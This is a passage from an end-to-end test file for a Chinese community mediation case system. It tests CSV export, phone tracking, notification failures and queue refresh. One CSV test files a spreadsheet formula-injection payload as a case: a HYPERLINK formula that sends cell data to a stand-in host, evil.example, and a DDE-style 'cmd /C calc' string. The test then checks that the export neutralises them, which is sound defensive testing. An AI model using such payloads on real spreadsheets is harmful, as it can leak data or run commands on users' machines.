    await expect.poll(() => p.locator('table.cases').innerText()).toContain(first.trackingNo);
  });

  it('exports the filtered subtree as a CSV for the monthly report, without the reporter\'s details', async () => {
    const filed = await fileCase({
      externalId: 'WO-CSV-1',
      title: '宠物噪音扰邻',
      description: '邻居家的狗夜间吠叫。',
      reporter: { name: '卫女士', phone: '13912340041' },
      location: { unitId: 'hp-xf-cy-1' },
      fields: { disputeType: '邻里', amount: 800 },
    });
    // A description written as a spreadsheet formula, as an attacker would send it.
    const formula = await fileCase({ title: '=HYPERLINK("http://evil.example/?x="&A1,"详情")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', location: { unitId: 'hp-xf-cy-1' } });
    // One resolved, so the sheet has a 办结时间 to check.
    const done = await fileCase({ title: '楼道堆物', description: '楼道堆放杂物。', location: { unitId: 'hp-xf-yg-1' } });
    const liaison = await login(suite.stack, 'building-mediator');
    await act(liaison, done.id, { type: 'accept' });
    await act(liaison, done.id, { type: 'resolve', outcome: 'resolved', summary: '已清理。' });
    const p = await page();
    await signIn(p, suite.stack.url, 'community-mediator', suite.stack.password);
    await p.goto(`${suite.stack.url}/admin/#/cases?center=mediation`);
    await p.locator('table.cases tbody tr').first().waitFor();
    const { name, text } = await downloadBy(p, p.getByRole('button', { name: '导出 CSV' }));
    expect(name).toMatch(/^辖区案件-\d{4}-\d{2}-\d{2}\.csv$/);
    const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\n');
    // The centres' forms add a column per field (家庭情况, personal, has none).
    expect(lines[0]).toBe(
      '编号,12345工单号,受理时间,来源,中心,诉求,内容摘要,发生单位,当前单位,当前层级,状态,期限,超时,上报次数,风险,办结时间,办结结果,回访满意度,' +
        '涉及事项,纠纷类型,争议金额（元）,问题位置,持续时间,咨询领域,求助类别',
    );
    const token = await login(suite.stack, 'community-mediator');
    let total = 0;
    let cursor: string | null = null;
    do {
      const reply: { body: { items: unknown[]; cursor: string | null } } = await call(suite.stack, 'GET', `/v1/cases?scope=subtree&center=mediation&limit=200${cursor ? `&cursor=${cursor}` : ''}`, { headers: { authorization: `Bearer ${token}` } });
      total += reply.body.items.length;
      cursor = reply.body.cursor;
    } while (cursor);
    expect(lines).toHaveLength(total + 1);
    const row = lines.find((l) => l.startsWith(`${filed.trackingNo},`))!;
    expect(row).toContain(',12345 热线,民事调解,宠物噪音扰邻,邻居家的狗夜间吠叫。,和平街道 幸福社区 翠苑小区 1栋,和平街道 幸福社区 翠苑小区 1栋,楼栋,待签收,');
    // Dates a spreadsheet reads and sorts, in China time; the hotline's work-order number beside ours.
    const state = (await call(suite.stack, 'GET', `/v1/cases/${filed.id}`)).body;
    const china = (iso: string) => new Date(Date.parse(iso) + 8 * 3_600_000).toISOString().slice(0, 16).replace('T', ' ');
    expect(row.startsWith(`${filed.trackingNo},WO-CSV-1,${china(state.createdAt)},`)).toBe(true);
    expect(row).toMatch(/,\d{4}-\d{2}-\d{2} \d{2}:\d{2},/);
    // The BOM is kept (Excel reads the file as UTF-8 by it), and every date column of every row sorts as text.
    expect(text.startsWith('\uFEFF编号,12345工单号,受理时间,')).toBe(true);
    const sheet = parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    const minute = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/;
    for (const r of sheet) {
      expect(r['受理时间']).toMatch(minute);
      for (const column of ['期限', '办结时间']) if (r[column] !== '') expect(r[column], column).toMatch(minute);
    }
    expect(sheet.find((r) => r['编号'] === done.trackingNo)?.['办结时间']).toMatch(minute);
    expect(sheet.find((r) => r['编号'] === filed.trackingNo)).toMatchObject({ 纠纷类型: '邻里', '争议金额（元）': '800', 求助类别: '' });
    expect(sheet.find((r) => r['编号'] === filed.trackingNo)?.['12345工单号']).toBe('WO-CSV-1');
    expect(text).not.toContain('13912340041');
    expect(text).not.toContain('卫女士');
    // Neutralised: the cells start with ', so Excel and WPS show them as text and run nothing.
    const neutralised = lines.find((l) => l.startsWith(`${formula.trackingNo},`));
    expect(neutralised).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""详情"")",'@SUM(1+1)*cmd|' /C calc'!A0,`);
  });

  it('a resident follows the link in the receipt, enters the 提取码 and sees the progress on a phone', async () => {
    const filed = (await call(suite.stack, 'POST', '/v1/cases', {
      body: { source: 'hotline', center: 'welfare', title: '路灯不亮', description: '小区南门路灯坏了一周。', reporter: { name: '褚先生', phone: '13912340051' }, location: { unitId: 'hp-xf-yg-1' } },
    })).body as { id: string; trackingNo: string; trackingCode: string };
    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'accept' });
    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'public', text: '已联系物业，明天维修。' });
    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'internal', text: '物业经理电话 139xxxx' });

    const p = await page({ viewport: { width: 375, height: 812 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
    await p.goto(`${suite.stack.url}/track?no=${filed.trackingNo.toLowerCase()}`);
    await p.getByRole('heading', { name: '诉求办理进度查询' }).waitFor();
    expect(p.url()).toBe(`${suite.stack.url}/track/?no=${filed.trackingNo.toLowerCase()}`);
    expect(await p.getByLabel('编号').inputValue()).toBe(filed.trackingNo.toLowerCase());

    suite.allowConsoleErrors(/status of 404/);
    await p.getByLabel('提取码').fill(filed.trackingCode === '000000' ? '111111' : '000000');
    await p.getByRole('button', { name: '查询' }).click();
    await p.getByRole('alert').filter({ hasText: '没有找到该编号，或提取码不正确' }).waitFor();

    await p.getByLabel('提取码').fill(filed.trackingCode);
    await p.getByRole('button', { name: '查询' }).click();
    const result = p.locator('section.track-result');
    await result.getByRole('heading', { name: `编号 ${filed.trackingNo} 办理中` }).waitFor();
    const text = await result.innerText();
    for (const expectedText of ['路灯不亮', '民生保障', '和平街道 幸福社区 阳光小区 1栋（楼栋）', '答复：已联系物业，明天维修。', '工作人员已签收，正在办理', '诉求已受理，由和平街道 幸福社区 阳光小区 1栋办理']) {
      expect(text).toContain(expectedText);
    }
    expect(text).not.toContain('物业经理电话');
    expect(await p.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375);
    await screenshot(p, 'track-phone');
  });

  it('an admin reads the day\'s notifications, and finds at once the one no channel could deliver', async () => {
    const filed = await fileCase({ title: '楼道堆物', description: '楼道里堆满杂物，存在消防隐患。', reporter: { phone: '13912340061' }, location: { unitId: 'hp-xf-yg-1' } });
    // As the notifier records a WeChat message after WeChat's 48-hour window, for a resident with no phone.
    const outbox = new Outbox(suite.stack.dynamodb, suite.stack.tableName);
    const entry = { at: new Date().toISOString(), caseId: filed.id, seq: 9, n: 0, topic: 'resolved', channel: 'wechat', provider: 'wechat', to: 'oNoPhone', recipientName: '群众', text: `【矛调通】您的诉求 ${filed.trackingNo} 已办结。` };
    expect(await outbox.claim(entry)).toBe(true);
    await outbox.markUndeliverable(entry, 'WeChat send: 45015 response out of time limit');

    const p = await page();
    await signIn(p, suite.stack.url, 'admin', suite.stack.password);
    await p.goto(`${suite.stack.url}/admin/#/manage/outbox`);
    const rows = p.locator('table.outbox tbody tr');
    await expect.poll(() => rows.count()).toBeGreaterThan(1);
    await expect.poll(() => p.locator('table.outbox').innerText()).toContain(`新诉求 ${filed.trackingNo} 待签收`);

    await p.getByLabel(/仅看无法送达/).check();
    await expect.poll(() => rows.count()).toBe(1);
    const row = await rows.first().innerText();
    expect(row).toContain('无法送达');
    expect(row).toContain(`您的诉求 ${filed.trackingNo} 已办结`);
    expect(row).toContain('微信');
    await rows.first().getByRole('link').click();
    await p.getByRole('heading', { name: '楼道堆物' }).waitFor();
  });

  it('an open queue shows a new case by itself when the window is focused again, without losing what it shows', async () => {
    const p = await page();
    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
    await p.locator('table.cases tbody tr').first().waitFor();
    const before = await p.locator('table.cases tbody tr').count();
    const filed = await fileCase({ title: '电梯异响', description: '电梯运行时有异响。', reporter: { phone: '13912340071' }, location: { unitId: 'hp-xf-yg-1' } });
    await p.evaluate(() => window.dispatchEvent(new Event('focus')));
    await expect.poll(() => p.locator('table.cases tr', { hasText: filed.trackingNo }).count()).toBe(1);
    expect(await p.locator('table.cases tbody tr').count()).toBe(before + 1);
  });
});
